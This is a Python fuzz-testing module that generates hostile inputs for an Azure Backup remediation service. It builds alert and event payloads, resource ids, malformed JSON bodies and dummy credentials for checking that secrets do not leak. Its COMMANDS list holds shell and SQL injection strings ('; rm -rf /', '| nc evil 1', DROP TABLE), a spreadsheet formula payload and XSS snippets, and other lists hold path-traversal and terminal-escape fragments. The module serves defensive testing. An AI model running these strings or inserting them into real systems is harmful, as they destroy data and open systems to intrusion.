"""Texts that somebody means us to stumble over, and the secrets that must not get through."""

import json
from collections.abc import Callable, Mapping
from typing import Any

from hypothesis import strategies as st

SUBSCRIPTION = "11111111-2222-3333-4444-555555555555"
# Another tenant's: never in scope.
FOREIGN = "99999999-8888-4777-8666-555555555555"
JOB = "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee"

SECRETS = (
    "sv=2024-11-04&ss=b&sig=c2VjcmV0U2FzU2lnbmF0dXJl%3D",
    "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=c2VjcmV0QWNjb3VudEtleQ==;",
    "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJzZWNyZXQifQ.c2VjcmV0Sldu",
    "password=SecretHunter2",
    "https://user:SecretHunter2@example.org/",
    "-----BEGIN PRIVATE KEY-----\nc2VjcmV0UHJpdmF0ZUtleQ\n-----END PRIVATE KEY-----",
)
# What of each would be a leak.
LEAKS = (
    "c2VjcmV0U2FzU2lnbmF0dXJl",
    "c2VjcmV0QWNjb3VudEtleQ",
    "c2VjcmV0Sldu",
    "SecretHunter2",
    "SecretHunter2",
    "c2VjcmV0UHJpdmF0ZUtleQ",
)  # fmt: skip

COMMANDS = (
    "$(reboot)", "`reboot`", "; rm -rf /", "| nc evil 1", "&& shutdown", "'; DROP TABLE x; --",
    '"; Remove-Item C:\\', "%0areboot", "${IFS}reboot", "{{7*7}}", "=cmd|' /C calc'!A1", "@SUM(1)",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "](javascript:alert(1))",
)  # fmt: skip
_STEERING = (
    "\x1b[2J",
    "\x1b]0;owned\x07",
    "\x9b31m",
    "\r",
    "\b",
    "\x00",
    "\u202e",
    "\u2066",
    "\x7f",
)
_PATHS = ("..", "/../", "%2e%2e", "%2f", "\\..\\", "//", "/./", ";", "?api-version=1", "#x")
_ALIKE = (
    "\u0455ubscriptions",
    "SUB\u017fCRIPTIONS",
    "ﬁle",
    "\u0130",
    "\u212a",
    "ß",
    "\u200b",
    "\u00ad",
    "é",
    "e\u0301",
    "٣",
)


def planted(body: bytes) -> set[str]:
    """Return what must not get through of a body: of secrets that stand in it whole, and only so.

    A fuzzer also makes texts in which a secret has lost its name; nobody could know that one.
    """
    text = body.decode(errors="replace").replace("\\n", "\n")
    whole = dict.fromkeys(LEAKS, 0)
    for secret, leak in zip(SECRETS, LEAKS, strict=True):
        whole[leak] += text.count(secret)
    return {leak for leak, count in whole.items() if 0 < count == text.count(leak)}


fragments = st.sampled_from([*COMMANDS, *_STEERING, *_PATHS, *_ALIKE, *SECRETS, "\n", "\t", " "])
text = st.one_of(
    st.text(max_size=40),
    fragments,
    st.lists(fragments | st.text(max_size=8), max_size=5).map("".join),
)


def an_id(kind: str, name: str = "x", group: str = "rg", subscription: str = SUBSCRIPTION) -> str:
    """Return an ARM id made of parts as they are."""
    return f"/subscriptions/{subscription}/resourceGroups/{group}/providers/{kind}/{name}"


def _protected(parts: tuple[str, str, str, str]) -> str:
    vault, group, name, subscription = parts
    container = f"IaasVMContainer;iaasvmcontainerv2;{group};{name}"
    return (
        an_id("Microsoft.RecoveryServices/vaults", vault, group, subscription)
        + f"/backupFabrics/Azure/protectionContainers/{container}/protectedItems/"
        + f"VM;iaasvmcontainerv2;{group};{name}"
    )


_subscription = st.sampled_from([SUBSCRIPTION, SUBSCRIPTION.upper(), FOREIGN, "*", ""]) | text
_part = st.sampled_from(["vm-1", "rg-app", "VM-1", "rsv-1", "a" * 91, "x" * 5000]) | text
machine_ids = st.builds(
    an_id,
    st.sampled_from(["Microsoft.Compute/virtualMachines", "Microsoft.Sql/servers"]),
    _part, _part, _subscription,
)  # fmt: skip
vault_ids = st.builds(
    an_id, st.just("Microsoft.RecoveryServices/vaults"), _part, _part, _subscription
)
protected_ids = st.tuples(_part, _part, _part, _subscription).map(_protected)
ids = machine_ids | vault_ids | protected_ids | text
jobs = st.sampled_from([JOB, JOB.upper(), f"{JOB}/x", f"{JOB}\n", "../" + JOB]) | text

_numbers = st.sampled_from([0, -1, True, 2**63, 10**400, 1e308, float("nan"), float("inf")])
leaves = st.none() | st.booleans() | st.integers() | _numbers | text | ids


def _nested(children: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.lists(children, max_size=3) | st.dictionaries(text, children, max_size=3)


trees = st.recursive(leaves, _nested, max_leaves=8)


def written(tree: object) -> bytes:
    """Return a tree as JSON, or as what Python makes of it where JSON has no word."""
    return json.dumps(tree).encode()


def _alert(one: Callable[[st.SearchStrategy[Any]], Any]) -> object:
    return {
        "schemaId": one(st.just("azureMonitorCommonAlertSchema")),
        "data": {
            "essentials": {
                "monitoringService": one(st.just("Azure Backup")),
                "alertRule": one(st.just("Backup Failure")),
                "monitorCondition": one(st.just("Fired")),
                "firedDateTime": one(st.just("2026-11-20T21:00:00Z") | text),
                "originAlertId": one(text),
            },
            "alertContext": {
                "category": one(st.just("Jobs")),
                "protectedItemId": one(protected_ids),
                "linkedResourceId": one(machine_ids),
                "extendedInfo": {"jobId": one(jobs), "recommendedActions": one(text)},
            },
        },
    }


def _event(one: Callable[[st.SearchStrategy[Any]], Any]) -> object:
    return {
        "specversion": one(st.just("1.0")),
        "type": one(
            st.sampled_from(
                [
                    "BackupRemediator.BackupJobFailed.v1",
                    "Microsoft.Resources.ResourceActionFailure",
                ]
            )
        ),
        "source": one(text),
        "data": {
            "vaultId": one(vault_ids),
            "itemId": one(machine_ids),
            "jobId": one(jobs),
            "code": one(text),
            "looks": one(st.integers(0, 3)),
            "firedAt": one(st.just("2026-11-20T21:00:00Z") | text),
            "operationName": one(
                st.just("Microsoft.RecoveryServices/vaults/x/protectedItems/backup/action")
            ),
            "resourceUri": one(protected_ids),
        },
    }


@st.composite
def _filled(draw: st.DrawFn, shape: Callable[..., object]) -> object:
    """A payload of the right shape, in which one field in eight is anything at all."""

    def one(usual: st.SearchStrategy[Any]) -> Any:
        return draw(trees if draw(st.integers(0, 7)) == 0 else usual)

    return shape(one)


alerts = _filled(_alert)
events = _filled(_event)
# Made when they are drawn: as values they would be shown whole by whoever reports.
_BOMBS: Mapping[str, Callable[[], bytes]] = {
    "open lists": lambda: b"[" * 100_000,
    "nested objects": lambda: b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "a key twice": lambda: b'{"a":1,"a":2}',
    "a long number": lambda: b"9" * 10_000,
    "a long number below zero": lambda: b"-" + b"9" * 5_000,
    "a number without end": lambda: b"1e999999",
    "a mark of order": lambda: b"\xef\xbb\xbf{}",
    "another encoding": lambda: b"\xff\xfe{\x00}\x00",
    "half a character": lambda: b'"\\ud800"',
    "nothing": lambda: b"\x00",
    "too much": lambda: b'{"data": "' + b"x" * 1_100_000 + b'"}',
}
bodies = (alerts | events | trees).map(written) | st.binary(max_size=64)


def bomb(name: str) -> bytes:
    """Return the body of that name."""
    return _BOMBS[name]()


BOMBS = tuple(_BOMBS)
